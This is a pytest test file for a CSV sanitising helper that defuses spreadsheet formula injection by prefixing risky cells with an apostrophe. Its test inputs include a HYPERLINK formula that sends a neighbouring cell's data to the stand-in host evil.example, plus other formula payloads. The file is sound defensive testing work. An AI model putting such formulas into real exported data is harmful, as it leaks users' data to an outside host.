"""Cells a spreadsheet would run as a formula are written as text, by one helper that
every CSV writer in the product uses."""

import csv
import io
import re
from pathlib import Path

import pytest

from marketplace import csvsafe
from marketplace.csvsafe import formula_safe

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


@pytest.mark.parametrize(
    "cell",
    [LEAK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "+", "=", "-1e3", "+855 12"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(cell):
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1.50", "+85512345678", "-24", "0.20", "12"])
def test_a_plain_number_stays_a_number(cell):
    assert formula_safe(cell) == cell


@pytest.mark.parametrize("cell", ["stop", "", " =1+1", "a=b", "'=1", "[1, 2]", "C-12"])
def test_other_text_is_unchanged(cell):
    assert formula_safe(cell) == cell


@pytest.mark.parametrize("cell", [-24, 3.5, None, 0])
def test_non_text_values_are_unchanged(cell):
    assert formula_safe(cell) == cell


def test_the_writer_makes_every_cell_safe_and_quotes_as_csv_does():
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer, lineterminator="\n")
    writer.writerow(["id", "answer"])
    writer.writerows([[1, LEAK], [-2, 'say "hi", then -1+1']])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["id", "answer"], ["1", "'" + LEAK], ["-2", 'say "hi", then -1+1']]


def test_no_module_writes_csv_without_the_helper():
    # A new export written with csv.writer would bring the hole back.
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("marketplace", "tasks", "reputation", "payouts")
        for path in (root / app).rglob("*.py")
        if path.name != "csvsafe.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
